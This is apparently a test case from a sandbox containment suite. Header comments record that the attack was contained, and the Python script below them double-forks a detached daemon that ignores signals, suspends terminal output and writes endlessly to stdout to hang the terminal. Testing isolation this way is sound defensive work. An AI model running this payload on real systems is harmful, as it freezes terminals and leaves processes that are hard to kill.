# attack: leaves a daemon behind that holds up the terminal and waits to write to it
# exercise: tcp-capitalize-server
# verdict: failed
# contained: A B C D E
# case: all
# places: A E
import os
import signal
import termios

print("tried", flush=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except OSError:
                pass
        termios.tcflow(1, termios.TCOOFF)
        while True:
            os.write(1, b"x" * 4096)
    os._exit(0)
